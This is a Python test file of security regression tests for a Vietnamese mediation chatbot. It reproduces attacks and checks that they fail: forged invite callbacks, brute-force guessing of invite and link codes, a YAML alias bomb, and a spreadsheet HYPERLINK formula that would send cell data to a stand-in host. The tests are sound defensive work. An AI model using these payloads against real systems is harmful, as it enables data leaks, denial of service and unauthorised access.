"""Issue 14: each attack that succeeded is reproduced here first, then refused.

High: forged invite callbacks (roles, uses, days) and invites of a deactivated person; party names lost when a
case is corrected without PARTY_DATA_KEY. Medium and low items follow below their own headings.
"""

from __future__ import annotations

import asyncio
import math
import time

import pytest

from bot import messages as msg
from bot.demo import DEMO_USERS
from services.models import Role
from services.registration import PermissionDenied, RegistrationError
from storage.audit import AuditLog
from tests.harness import texts
from tests.test_zalo import zalo  # noqa: F401  (fixture)

NEW_USER = 5101


# --- 1. Invites: the server decides which roles, uses and days an inviter may create ------------------------


async def _commune_invites(bot, code="ML"):
    """Invites people created (the demo seed's invite has no creator)."""
    invites = await bot.services.invites.of_commune((await bot.services.org.commune_by_code(code)).id)
    return [i for i in invites if i.created_by is not None]


async def test_forged_invite_callbacks_create_nothing(bot):
    """The attack: /moi, then callback data the buttons never offer (role, 500 uses, 365 days)."""
    await bot.say("commune", "/moi")
    out = await bot.tap_data("commune", "inv:r:commune_official")
    assert "không được dùng" in texts(out)
    await bot.tap_data("commune", "inv:u:500")
    out = await bot.tap_data("commune", "inv:d:365")
    assert "Đã tạo mã mời" not in texts(out)
    # the offered role, then forged uses and days
    await bot.say("commune", "/moi")
    await bot.tap("commune", "Hòa giải viên")
    await bot.tap("commune", "Tổ hòa giải tổ dân phố 2")
    await bot.tap_data("commune", "inv:u:500")
    out = await bot.tap_data("commune", "inv:d:365")
    assert "Đã tạo mã mời" not in texts(out)
    assert await _commune_invites(bot) == []


@pytest.mark.parametrize(
    "who, role, uses, days, allowed",
    [
        ("commune", Role.MEDIATOR, 30, 30, True),
        ("commune", Role.TEAM_LEADER, 1, 7, True),
        ("commune", Role.COMMUNE_OFFICIAL, 1, 7, False),
        ("commune", Role.MEDIATOR, 500, 7, False),
        ("commune", Role.MEDIATOR, 1, 365, False),
        ("commune", Role.MEDIATOR, 2, 7, False),
        ("province", Role.COMMUNE_OFFICIAL, 5, 14, True),
        ("province", Role.MEDIATOR, 31, 14, False),
        ("admin", Role.COMMUNE_OFFICIAL, 10, 30, True),
        ("admin", Role.PROVINCE_OFFICIAL, 1, 7, True),
        ("province", Role.PROVINCE_OFFICIAL, 1, 7, False),
        ("commune", Role.PROVINCE_OFFICIAL, 1, 7, False),
        ("admin", Role.MEDIATOR, 1, 60, False),
        ("mediator", Role.MEDIATOR, 1, 7, False),
        ("leader", Role.MEDIATOR, 1, 7, False),
    ],
)
async def test_invite_rules_by_inviter(bot, who, role, uses, days, allowed):
    creator = await bot.services.people.by_identity("console", str(bot.user_id(who)))
    commune = await bot.services.org.commune_by_code("ML")
    create = bot.services.registration.create_invite(creator, commune.id, role, max_uses=uses, days=days)
    if allowed:
        invite = await create
        assert invite.role == role and invite.max_uses == uses and invite.created_by == creator.id
    else:
        with pytest.raises(PermissionDenied):
            await create
        assert await _commune_invites(bot) == []


async def test_admin_invites_a_province_official(bot):
    await bot.say("admin", "/moi")
    await bot.tap("admin", "Xã Nà Hỳ")
    out = await bot.tap("admin", "Cán bộ Sở Tư pháp")
    assert msg.INVITE_PICK_USES in texts(out)  # no team for a province official
    await bot.tap("admin", "1 người")
    out = await bot.tap("admin", "7 ngày")
    assert "Sở Tư pháp tỉnh Điện Biên" in texts(out)
    invite = (await _commune_invites(bot, "NH"))[0]
    assert invite.role == Role.PROVINCE_OFFICIAL and invite.team_id is None
    bot.api.user(NEW_USER, "Minh", "Trần Văn")
    out = await bot.say(NEW_USER, f"/start {invite.code}")
    assert "Sở Tư pháp tỉnh Điện Biên" in texts(out)
    out = await bot.tap(NEW_USER, "Đúng")
    assert "Đăng ký thành công" in texts(out)
    person = await bot.services.people.by_identity("console", str(NEW_USER))
    province = await bot.services.org.province_by_code("DB")
    assert (person.role, person.province_id, person.commune_id, person.team_id) == (
        Role.PROVINCE_OFFICIAL,
        province.id,
        None,
        None,
    )
    # a province official cannot forge it
    await bot.say("province", "/moi")
    await bot.tap("province", "Xã Nà Hỳ")
    out = await bot.tap_data("province", "inv:r:province_official")
    assert "không được dùng" in texts(out)


async def test_invite_creation_is_audited(bot):
    creator = await bot.services.people.by_identity("console", str(bot.user_id("commune")))
    invite = await bot.services.registration.create_invite(
        creator, creator.commune_id, Role.MEDIATOR, max_uses=5, days=14
    )
    rows = await AuditLog(bot.services.db).rows(object_type="invite")
    assert [(r.action, r.object_id, r.actor_id, r.commune_id) for r in rows] == [
        ("invite.create", str(invite.id), creator.id, creator.commune_id)
    ]
    assert rows[0].after["role"] == "mediator" and rows[0].after["max_uses"] == 5


async def test_invite_of_deactivated_creator_stops_working(bot):
    people = bot.services.people
    creator = await people.by_identity("console", str(bot.user_id("commune")))
    team = await bot.services.org.team_by_code("ML-01")
    invite = await bot.services.registration.create_invite(
        creator, creator.commune_id, Role.MEDIATOR, team_id=team.id, max_uses=5, days=14
    )
    await people.update_fields(creator.id, active=False)
    out = await bot.say(NEW_USER, f"/start {invite.code}")
    assert msg.CODE_ERRORS["invalid"] in texts(out)
    with pytest.raises(RegistrationError) as refused:
        await bot.services.registration.register(invite.code, "Lò Văn Nam", "console", str(NEW_USER))
    assert refused.value.reason == "invalid" and refused.value.detail == "creator_inactive"
    assert await people.by_identity("console", str(NEW_USER)) is None


async def test_deactivated_between_check_and_redeem(bot):
    """The storage refuses too (the service check and the redemption are separate steps)."""
    people = bot.services.people
    creator = await people.by_identity("console", str(bot.user_id("commune")))
    team = await bot.services.org.team_by_code("ML-01")
    invite = await bot.services.registration.create_invite(
        creator, creator.commune_id, Role.MEDIATOR, team_id=team.id, max_uses=5, days=14
    )
    bot.api.user(NEW_USER, "Nam", "Lò Văn")
    await bot.say(NEW_USER, f"/start {invite.code}")
    await bot.tap(NEW_USER, "Đúng")
    await people.update_fields(creator.id, active=False)
    out = await bot.tap(NEW_USER, "Đúng")
    assert msg.CODE_ERRORS["invalid"] in texts(out)
    assert await people.by_identity("console", str(NEW_USER)) is None


# --- 2. Party names survive a correction made without PARTY_DATA_KEY ---------------------------------------


async def _case_with_parties(bot, cipher):
    import secrets

    commune = await bot.services.org.commune_by_code("ML")
    await bot.services.db.execute("UPDATE communes SET store_party_names = 1 WHERE id = ?", (commune.id,))
    team = await bot.services.org.team_by_code("ML-01")
    reporter = await bot.services.people.by_identity("console", str(bot.user_id("mediator")))
    today = bot.services.cases.today().isoformat()
    values = {
        "team_id": team.id,
        "received_on": today,
        "field": "dat_dai",
        "basis": "yeu_cau",
        "result": "thanh",
        "closed_on": today,
        "parties_count": 2,
        "mediator_ids": [reporter.id],
        "summary": "",
        "parties": cipher.encrypt("Lò Văn A, Quàng Thị B"),
    }
    return await bot.services.cases.repo.create(
        values,
        province_id=commune.province_id,
        commune_id=commune.id,
        commune_code=commune.code,
        reporter_id=reporter.id,
        submission_key=secrets.token_hex(8),
    )


@pytest.mark.parametrize("who", ["commune", "mediator"])
async def test_correction_without_key_keeps_party_names(bot, who):
    from cryptography.fernet import Fernet

    from services.privacy import PartyCipher

    key = Fernet.generate_key().decode()
    case = await _case_with_parties(bot, PartyCipher(key))
    stored = case.parties_encrypted
    bot.services.cases.cipher = PartyCipher(None)  # the bot restarted without PARTY_DATA_KEY
    await bot.say(who, "/vuviec")
    out = await bot.tap_data(who, f"case:c:{case.id}")
    assert msg.CASE_PARTIES_LOCKED in texts(out)
    await bot.tap(who, "Sửa: Số bên")
    await bot.tap(who, "3")
    out = await bot.tap(who, "Gửi báo cáo")
    assert msg.CASE_CORRECTED.format(number=case.number) in texts(out)
    corrected = await bot.services.cases.repo.get(case.id)
    assert corrected.parties_count == 3 and corrected.parties_encrypted == stored
    assert PartyCipher(key).decrypt(corrected.parties_encrypted) == "Lò Văn A, Quàng Thị B"


# --- 4. A flow left open cannot write text typed for another flow into its record ---------------------------


async def test_library_search_does_not_become_a_case_summary(bot):
    """The attack: a case report left waiting for its summary (the review screen's "Sửa: Tóm tắt" tapped),
    then /tailieu and a search typed."""
    summary_button = "Sửa: Tóm tắt"
    await bot.say("mediator", "/baocao")
    for choice in ("Hôm nay", "Đất đai", "Một bên hoặc các bên yêu cầu", "Hòa giải thành"):
        await bot.tap("mediator", choice)
    out = await bot.tap("mediator", summary_button)
    assert msg.CASE_PROMPTS["summary"] in texts(out)  # the report now waits for typed text
    await bot.say("mediator", "/tailieu")
    await bot.say("mediator", "so theo doi")
    person = await bot.services.people.by_identity("console", str(bot.user_id("mediator")))
    draft = await bot.services.cases.repo.draft(person.id, "new")
    assert draft is not None and not draft.values.get("summary")  # the draft is kept, without the search text
    # Coming back to the report makes it the flow that takes typed text again.
    await bot.say("mediator", "/baocao")
    out = await bot.tap("mediator", "case:resume:n")
    assert msg.CASE_PROMPTS["summary"] in texts(out)  # resumed at the summary step it was left at
    await bot.say("mediator", "Tranh chấp ranh giới đất giữa hai hộ")
    draft = await bot.services.cases.repo.draft(person.id, "new")
    assert draft.values["summary"] == "Tranh chấp ranh giới đất giữa hai hộ"


async def test_statistics_period_does_not_become_broadcast_text(bot):
    """The attack: /thongbao waiting for its text, then /thongke with a typed period."""
    await bot.say("commune", "/thongbao")
    await bot.tap("commune", "Soạn thông báo mới")
    await bot.tap("commune", "Toàn xã/phường")
    await bot.say("commune", "/thongke")
    await bot.tap_data("commune", "st:per:custom")
    out = await bot.say("commune", "01/01/2025 - 30/06/2025")
    assert msg.BC_PREVIEW_INTRO not in texts(out) and msg.BC_ASK_ATTACHMENT not in texts(out)
    assert "01/01/2025 - 30/06/2025" not in str(bot.app.user_data[bot.user_id("commune")].get("bc"))


async def test_case_writer_refuses_text_claimed_by_another_flow(bot):
    """The service itself refuses, whatever conversation state the chat layer is in."""
    from services.cases import TextNotAwaited

    cases = bot.services.cases
    person = await bot.services.people.by_identity("console", str(bot.user_id("mediator")))
    await cases.begin(person)
    await cases.answer(person, "new", None, "hôm nay")  # the draft asked: accepted
    await bot.services.text_claims.claim(person.id, "cmd:thongke")
    with pytest.raises(TextNotAwaited):
        await cases.answer(person, "new", None, "dat dai")


# --- 14. Private chats only: a group gets one polite line and nothing else ----------------------------------

GROUP = -1001234567890


def _in_group(update: dict, kind: str) -> dict:
    import copy

    update = copy.deepcopy(update)
    message = update.get("message") or update["callback_query"]["message"]
    message["chat"] = {"id": GROUP, "type": kind, "title": "Tổ hòa giải bản Na Lay"}
    return update


@pytest.mark.parametrize("kind", ["group", "supergroup", "channel"])
async def test_group_chat_gets_one_polite_line(bot, kind):
    from tests.test_cases_followup import make_case

    case = await make_case(bot, "mediator", result="thanh")
    before = len(bot.api.outbox)
    await bot._process(_in_group(bot.api.user_message(bot.user_id("commune"), "/vuviec"), kind))
    private = await bot.say("commune", "/vuviec")  # a message with buttons to tap from the group
    await bot._process(
        _in_group(
            bot.api.user_click(bot.user_id("commune"), private[-1]["message_id"], f"case:c:{case.id}"), kind
        )
    )
    await bot._process(_in_group(bot.api.user_message(bot.user_id("guest"), "hòa giải là gì"), kind))
    to_group = [m for m in bot.api.outbox[before:] if m["chat"]["id"] == GROUP]
    assert [m["text"] for m in to_group] == [msg.GROUP_CHAT_REFUSED] * 3
    person = await bot.services.people.by_identity("console", str(bot.user_id("commune")))
    assert await bot.services.cases.repo.draft(person.id, "edit") is None  # nothing was started


async def test_zalo_group_gets_one_polite_line(zalo):  # noqa: F811
    """The same rule on Zalo: its adapter gives group events the chat type "group"."""
    emu = zalo.emu
    await zalo.as_person("z-hoa-01", str(DEMO_USERS["commune"][0]), "Lò Thị Hoa")
    event = emu._event("message.text.received", "z-hoa-01", text="/vuviec")
    event["message"]["chat"] = {"id": "zalo-group-01", "chat_type": "GROUP"}
    mark = len(emu.outbox)
    emu._emit(event)
    replies = await emu.replies("zalo-group-01", mark)
    assert [m.text for m in replies] == [msg.GROUP_CHAT_REFUSED]
    assert not [m for m in emu.outbox[mark:] if m.chat_id == "z-hoa-01"]


# --- 5. admin restore: not onto the live file, not while the bot runs, not a backup lacking tables ----------


async def _seeded_db(path):
    from bot.config import Config
    from bot.container import Services
    from bot.demo import seed_demo

    services = Services.build(Config(database_path=str(path)))
    await services.open()
    await seed_demo(services)
    return services


def _count(path, table="persons"):
    import sqlite3
    from contextlib import closing

    with closing(sqlite3.connect(path)) as conn:
        return conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]


@pytest.mark.sqlite_only
async def test_restore_onto_the_live_file_is_refused(tmp_path, capsys):
    from bot.cli import main

    live = tmp_path / "live.db"
    await (await _seeded_db(live)).close()
    persons = _count(live)
    assert main(["admin", "restore", "--db", str(live), str(live), "--yes"]) == 1
    assert "chính là CSDL đang dùng" in capsys.readouterr().err
    assert _count(live) == persons


@pytest.mark.sqlite_only
async def test_restore_while_the_bot_runs_is_refused(tmp_path, capsys):
    from bot.cli import main
    from storage.backup import backup

    live = tmp_path / "live.db"
    running = await _seeded_db(live)  # the running bot has the database open
    backup(live, tmp_path / "old.bak")
    number = await running.db.execute(
        "INSERT INTO bot_state(kind, key, data) VALUES ('probe', 'confirmed-after-backup', '{}')"
    )
    assert number
    assert main(["admin", "restore", "--db", str(live), str(tmp_path / "old.bak"), "--yes"]) == 1
    assert "đang được bot" in capsys.readouterr().err
    assert (
        await running.db.fetchone("SELECT 1 FROM bot_state WHERE key = 'confirmed-after-backup'") is not None
    )
    await running.close()
    # Once the bot has stopped, the restore goes ahead.
    assert main(["admin", "restore", "--db", str(live), str(tmp_path / "old.bak"), "--yes"]) == 0


@pytest.mark.sqlite_only
async def test_restore_refuses_a_backup_lacking_tables(tmp_path, capsys):
    import sqlite3
    from contextlib import closing

    from bot.cli import main
    from storage.backup import backup

    live = tmp_path / "live.db"
    await (await _seeded_db(live)).close()
    backup(live, tmp_path / "cut.bak")
    with closing(sqlite3.connect(tmp_path / "cut.bak")) as conn:
        conn.execute("PRAGMA foreign_keys = OFF")
        conn.execute("DROP TABLE case_audit")
        conn.commit()
    target = tmp_path / "target.db"
    assert main(["admin", "restore", "--db", str(target), str(tmp_path / "cut.bak"), "--yes"]) == 1
    assert "case_audit" in capsys.readouterr().err and not target.exists()


# --- 6. admin load-org: names are text of bounded length; YAML aliases are refused before expansion ---------


def _alias_bomb(levels: int = 6) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels + 1):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    lines += [
        "province: {code: DB, name: Điện Biên}",
        "communes:",
        "  - code: ML",
        "    name: Phường Mường Lay",
        "    teams:",
        f"      - {{code: ML-01, name: *a{levels}}}",
    ]
    return "\n".join(lines) + "\n"


@pytest.mark.sqlite_only
def test_load_org_refuses_alias_bomb(tmp_path, capsys):
    from bot.cli import main

    org_file = tmp_path / "bomb.yaml"
    org_file.write_text(_alias_bomb(), encoding="utf-8")
    assert org_file.stat().st_size < 1000
    assert main(["admin", "load-org", "--db", str(tmp_path / "org.db"), str(org_file)]) == 1
    assert "bí danh YAML" in capsys.readouterr().err


@pytest.mark.parametrize(
    "name, problem",
    [
        ("[Tổ, một]", "phải là chữ"),
        ("{a: 1}", "phải là chữ"),
        ("12345", "phải là chữ"),
        ("true", "phải là chữ"),
        ("'" + "Tổ hòa giải " * 20 + "'", "tối đa 150"),
    ],
)
def test_load_org_names_are_bounded_text(tmp_path, name, problem):
    import yaml

    from services.org_loader import OrgFileError, parse_org

    data = yaml.safe_load(
        f"province: {{code: DB, name: Điện Biên}}\ncommunes:\n  - code: ML\n    name: Mường Lay\n"
        f"    teams:\n      - {{code: ML-01, name: {name}}}\n"
        f"    officials:\n      - {{name: {name}}}\n"
    )
    from bot.cli import org_file_problem

    _, problems = parse_org(data)
    assert len([p for p in problems if problem in org_file_problem(p)]) == 2, problems
    assert OrgFileError(problems).problems


# --- 7. XLSX import reads every row, whatever dimension the sheet states ------------------------------------


def test_xlsx_import_reads_rows_beyond_the_stated_dimension(tmp_path):
    import re
    import zipfile

    from services.case_import import read_table
    from tests.test_case_import import GOOD, write_xlsx

    rows = [[*GOOD[0][:8], f"R-{i:02d}"] for i in range(10)]
    honest = write_xlsx(tmp_path / "honest.xlsx", rows)
    lying = tmp_path / "lying.xlsx"
    with zipfile.ZipFile(honest) as src, zipfile.ZipFile(lying, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, n = re.subn(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:I3"', data)
                assert n == 1
            dst.writestr(item, data)
    table = read_table(lying)
    assert [cells["external_id"] for _, cells in table] == [f"R-{i:02d}" for i in range(10)]


# --- 8. Masking: numbers glued to letters; the text of legal questions --------------------------------------


@pytest.mark.parametrize(
    "text, digits, mask",
    [
        ("SĐT0912345678 nhà bên", "0912345678", "phone"),
        ("gọi đt0912345678 nhé", "0912345678", "phone"),
        ("CCCD001234567890 của bà A", "001234567890", "id"),
        ("sdt:0912.345.678", "0912345678", "phone"),
        ("số0912345678abc", "0912345678", "phone"),
    ],
)
def test_numbers_glued_to_letters_are_masked(text, digits, mask):
    from services.privacy import mask_personal_numbers

    masked = mask_personal_numbers(text)
    assert digits not in masked.replace(".", "")
    assert (msg.CASE_MASK_PHONE if mask == "phone" else msg.CASE_MASK_ID) in masked


def test_glued_amounts_and_case_numbers_are_kept():
    from services.privacy import mask_personal_numbers

    text = "vụ ML-2025-0007, vay 200.000.000đ, trả 350000000đồng, thửa số 123, ngày 15/3/2025"
    assert mask_personal_numbers(text) == text


async def test_legal_question_is_stored_masked(bot):
    await bot.say("guest", "đất của tôi bị lấn, SĐT0912345678, CCCD 001234567890, hỏi hòa giải thế nào")
    rows = await bot.services.db.fetchall("SELECT text, folded FROM qa_questions")
    assert rows and all("0912345678" not in r["text"] + r["folded"] for r in rows)
    assert all("001234567890" not in r["text"] + r["folded"] for r in rows)
    assert msg.CASE_MASK_PHONE in rows[0]["text"]


# --- 9. Names from the org file are text in the statistics XLSX; a '$' does not break the chart -------------


def _hostile_report():
    from services.models import Team
    from services.statistics import Scope, build_report
    from tests import test_stats_export as se

    teams = [
        Team(100, 10, "ML-01", '=HYPERLINK("http://x.example/?"&A1,"Bấm")'),
        Team(101, 10, "ML-02", "Tổ $_^$ bản"),
    ]
    scope = Scope("commune", se.ML.id, se.ML.code, se.ML.name, se.PROVINCE, se.ML)
    return build_report(
        scope,
        se.PERIOD,
        field_results=se.FIELD_ROWS,
        team_results=se.TEAM_ROWS,
        teams=teams,
        members=se.MEMBERS,
        recognition_groups=[],
    )


def test_org_names_are_text_cells_in_the_statistics_xlsx():
    import io

    from openpyxl import load_workbook

    from services.stats_export import report_xlsx

    book = load_workbook(io.BytesIO(report_xlsx(_hostile_report())))
    cells = [c for ws in book.worksheets for r in ws.iter_rows() for c in r if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith("=")]
    assert any("HYPERLINK" in c.value for c in cells)


def test_dollar_in_a_team_name_does_not_break_the_chart():
    from services.stats_export import report_chart

    png = report_chart(_hostile_report())
    assert png.startswith(b"\x89PNG")


# --- 15. WEBHOOK_SECRET uses only the characters Telegram accepts ------------------------------------------


@pytest.mark.parametrize(
    "secret, ok",
    [
        ("s3cret-token_for-tests-0123456789", True),
        ("A" * 256, True),
        ("A" * 257, False),
        ("short-secret", False),
        ("secret with spaces 0123456789", False),
        ("mật-khẩu-bí-mật-0123456789", False),
        ("secret:token/0123456789+=", False),
    ],
)
def test_webhook_secret_charset(monkeypatch, capsys, secret, ok):
    from bot.channels.telegram import ConfigError, check_telegram_config
    from bot.cli import main
    from bot.config import Config

    config = Config(bot_token="123:abc", webhook_url="https://bot.example.vn/telegram", webhook_secret=secret)
    if ok:
        check_telegram_config(config, webhook=True)
        return
    with pytest.raises(ConfigError):
        check_telegram_config(config, webhook=True)
    monkeypatch.setenv("BOT_TOKEN", "123:abc")
    monkeypatch.setenv("WEBHOOK_URL", "https://bot.example.vn/telegram")
    monkeypatch.setenv("WEBHOOK_SECRET", secret)
    assert main(["run", "--webhook", "--db", ":memory:"]) == 2
    assert "WEBHOOK_SECRET" in capsys.readouterr().err


# --- 11. Guessing codes: /lienket global and per-code limits, invite-code limits, one reply for all failures


async def test_lienket_guessing_from_many_accounts_is_refused(bot):
    """The attack: 200 guesses spread over 40 accounts (5 each, under the per-account limit)."""
    from services.linking import GLOBAL_MAX_FAILURES, LinkError

    linking = bot.services.linking
    admin = await bot.services.people.by_identity("console", str(bot.user_id("admin")))
    issued = await linking.issue(admin, "console")
    wrong = [f"{n:06d}" for n in range(1000, 1200) if f"{n:06d}" != issued.code]
    reasons = []
    for i, guess in enumerate(wrong[:200]):
        with pytest.raises(LinkError) as refused:
            await linking.redeem(guess, "zalo", f"attacker-{i // 5}")
        reasons.append(refused.value.reason)
    assert reasons[:GLOBAL_MAX_FAILURES] == ["invalid"] * GLOBAL_MAX_FAILURES
    assert set(reasons[GLOBAL_MAX_FAILURES:]) == {"too_many_attempts"}
    with pytest.raises(LinkError):  # the right code, from a fresh account, is refused too
        await linking.redeem(issued.code, "zalo", "attacker-lucky")
    assert await bot.services.people.by_identity("zalo", "attacker-lucky") is None


async def test_a_live_link_code_stops_working_after_guesses_at_it(bot):
    from datetime import UTC, datetime, timedelta

    from services.linking import PER_CODE_MAX_FAILURES, LinkError

    linking = bot.services.linking
    t0 = datetime.now(UTC).replace(microsecond=0)
    hoa = await bot.services.people.by_identity("console", str(bot.user_id("commune")))
    issued = await linking.issue(hoa, "console", now=t0)
    wrong = "000000" if issued.code != "000000" else "111111"
    for i in range(PER_CODE_MAX_FAILURES):
        with pytest.raises(LinkError):
            await linking.redeem(wrong, "zalo", f"guesser-{i}", now=t0 + timedelta(seconds=1))
    with pytest.raises(LinkError) as refused:
        await linking.redeem(issued.code, "zalo", "guesser-lucky", now=t0 + timedelta(seconds=2))
    assert refused.value.reason == "invalid" and refused.value.detail == "guessed_at"
    fresh = await linking.issue(
        hoa, "console", now=t0 + timedelta(seconds=3)
    )  # the owner asks again: it works
    assert (await linking.redeem(fresh.code, "zalo", "hoa-zalo", now=t0 + timedelta(seconds=4))).id == hoa.id


async def test_lienket_one_reply_for_every_failure(bot):
    linking = bot.services.linking
    hoa = await bot.services.people.by_identity("console", str(bot.user_id("commune")))
    used = await linking.issue(hoa, "console")
    await linking.redeem(used.code, "zalo", "hoa-1")
    replies = set()
    for who, code in ((7101, "999999" if used.code != "999999" else "888888"), (7102, used.code)):
        out = await bot.say(who, f"/lienket {code}")
        replies.add(texts(out))
    await bot.services.people.update_fields(hoa.id, active=False)
    other = await linking.issue(hoa, "console")
    replies.add(texts(await bot.say(7103, f"/lienket {other.code}")))
    assert replies == {msg.LINK_ERRORS["invalid"]}


async def test_invite_code_guessing_is_limited(bot):
    from services.registration import GLOBAL_MAX_FAILURES, MAX_FAILURES

    invite = await bot.services.invites.by_code("HGCS2345")
    wrong = "ABCDEFGH"
    for _ in range(MAX_FAILURES):
        out = await bot.say(7201, f"/start {wrong}")
        assert msg.CODE_ERRORS["invalid"] in texts(out)
    out = await bot.say(7201, f"/start {invite.code}")  # even the right code, now
    assert msg.CODE_ERRORS["too_many_attempts"] in texts(out)
    # many accounts together
    for i in range(GLOBAL_MAX_FAILURES - MAX_FAILURES):
        await bot.say(7300 + i // 4, f"/start {wrong}")
    out = await bot.say(7999, f"/start {invite.code}")
    assert msg.CODE_ERRORS["too_many_attempts"] in texts(out)
    assert await bot.services.people.by_identity("console", "7999") is None


# --- 12. The at-least-once window stays as small under a slow database as it is idle ------------------------


class _SlowBookkeeping:
    """The outbox repository with `sent` marks that take `delay` seconds (a backup running, a loaded disk)."""

    def __init__(self, repo, delay: float):
        self._repo, self.delay = repo, delay

    def __getattr__(self, name):
        return getattr(self._repo, name)

    async def mark_sent(self, row_id, message_id):
        await asyncio.sleep(self.delay)
        await self._repo.mark_sent(row_id, message_id)


class _CountingTransport:
    """Answers at once; at each send, counts the messages already sent whose `sent` mark is not committed."""

    def __init__(self, db):
        self.db, self.sent, self.window, self.slowest = db, [], [], 0.0

    async def deliver(self, broadcast, row):
        started = time.monotonic()
        marked = await self.db.fetchone("SELECT COUNT(*) AS n FROM outbox WHERE status = 'sent'")
        self.window.append(len(self.sent) - marked["n"])
        self.sent.append(row["id"])
        self.slowest = max(self.slowest, time.monotonic() - started)
        return 1000 + row["id"]

    async def progress(self, broadcast, counts, final):
        return None


@pytest.mark.parametrize("delay", [0.0, 0.15])
async def test_unrecorded_sends_stay_few_when_the_database_is_slow(db, delay):
    from services.delivery import OutboxWorker
    from storage.broadcasts import BroadcastRepository
    from tests.test_postgres_outbox import _broadcast

    broadcast_id = await _broadcast(db, 40)
    transport = _CountingTransport(db)
    worker = OutboxWorker(
        _SlowBookkeeping(BroadcastRepository(db), delay),
        transport,
        "telegram",
        rate_per_s=200,
        per_chat_interval_s=0,
        progress_every_s=0,
        shared=False,
    )
    await worker.drain(timeout_s=60)
    assert sorted(transport.sent) == sorted(set(transport.sent)) and len(transport.sent) == 40
    assert (await BroadcastRepository(db).counts(broadcast_id))["sent"] == 40
    # what a SIGKILL at any moment would send twice: at most the worker's bound, however slow the database
    # (the worker may keep open what its pace needs over the API's own latency — here the counting query's,
    # which a loaded machine makes longer — plus max_unrecorded; the slow bookkeeping never adds to it)
    bound = worker.max_unrecorded + math.ceil(worker.rate_per_s * transport.slowest)
    assert max(transport.window) <= bound, (transport.window, bound)


# --- 13. A full disk or an unusable data directory: a clear message, never a traceback ----------------------


@pytest.mark.sqlite_only
async def test_full_disk_mid_write_gets_the_storage_message(bot):
    from storage.db import StorageError

    db = bot.services.db
    pages = (await db.fetchone("PRAGMA page_count"))[0]
    await db.conn.execute(f"PRAGMA max_page_count = {pages}")  # the disk is full: the file cannot grow
    with pytest.raises(StorageError, match="full"):
        async with db.transaction() as conn:
            await conn.execute(
                "INSERT INTO bot_state(kind, key, data) VALUES ('x', 'y', ?)", ("z" * 200_000,)
            )
    from services.qa import Asker

    for size in (900, 300, 100, 30, 5):  # fill what free space the question table's pages still have
        for i in range(10_000):
            try:
                await bot.services.qa.ask(f"{i} " + "đất " * size, Asker("console", "filler", None))
            except StorageError:
                break
    out = await bot.say("guest", "hòa giải tranh chấp đất đai thế nào")  # storing the question fails
    assert msg.ERROR_STORAGE in texts(out)


def _start(tmp_path, env: dict, db: str, mount: str | None = None):
    """`python -m bot run` as an operator would start it; `mount` (tmpfs options) is mounted on the database's
    folder in a private mount namespace first (a read-only or full disk, without touching the machine)."""
    import os
    import shlex
    import subprocess
    import sys

    environ = {**os.environ, "BOT_TOKEN": "123:abc", "TELEGRAM_BASE_URL": "http://127.0.0.1:9/bot", **env}
    environ.pop("DATABASE_URL", None)
    command = [sys.executable, "-m", "bot", "run", "--db", db]
    if mount is not None:
        folder = os.path.dirname(db)
        script = f"mount -t tmpfs -o {mount} none {shlex.quote(folder)} && exec {shlex.join(command)}"
        command = ["unshare", "-rm", "sh", "-c", script]
    return subprocess.run(
        command,
        env=environ,
        capture_output=True,
        text=True,
        timeout=120,
        cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
    )


def _namespaces_work() -> bool:
    import shutil
    import subprocess

    if shutil.which("unshare") is None:
        return False
    return subprocess.run(["unshare", "-rm", "true"], capture_output=True).returncode == 0


@pytest.mark.parametrize(
    "case, env, mount, expected",
    [
        ("party key", {"PARTY_DATA_KEY": "not-a-fernet-key"}, None, "PARTY_DATA_KEY"),
        ("log level", {"LOG_LEVEL": "LOUD"}, None, "LOG_LEVEL=LOUD"),
        ("read-only", {}, "ro,size=1m", "chỉ đọc"),
        ("full disk", {}, "size=64k", "ổ đĩa đã đầy"),
    ],
)
def test_startup_failures_are_one_clear_line(tmp_path, case, env, mount, expected):
    if mount is not None and not _namespaces_work():
        pytest.skip("needs unshare (user and mount namespaces) to give the bot a read-only or full disk")
    folder = tmp_path / "data"
    folder.mkdir()
    done = _start(tmp_path, env, str(folder / "mediator.db"), mount)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr and "Traceback" not in done.stdout
    problems = [line for line in done.stderr.splitlines() if line.startswith("Không khởi động được")]
    assert len(problems) == 1 and expected in problems[0], done.stderr


async def test_questions_stored_before_masking_are_masked_by_the_command(tmp_path, capsys):
    from bot.cli import main
    from bot.config import Config
    from bot.container import Services
    from tests import dbtarget

    target = dbtarget.database_for(tmp_path, "old.db")
    await dbtarget.prepare(target)
    services = Services.build(Config(database_path=target))
    await services.open()
    await services.qa.repo.record(
        channel="console",
        asker_ref="1009",
        person_id=None,
        commune_id=None,
        text="nhà tôi SĐT 0912345678 bị lấn đất",
        folded="nha toi sdt 0912345678 bi lan dat",
        outcome="answered",
        confidence=0.9,
        matched_ids=[],
        matched_scores=[],
        shown_id=None,
    )
    await services.close()
    assert await asyncio.to_thread(main, ["admin", "mask-questions", "--db", target]) == 0
    assert "1 câu hỏi" in capsys.readouterr().out
    services = Services.build(Config(database_path=target))
    await services.open()
    row = await services.db.fetchone("SELECT text, folded FROM qa_questions")
    await services.close()
    assert "0912345678" not in row["text"] + row["folded"] and msg.CASE_MASK_PHONE in row["text"]
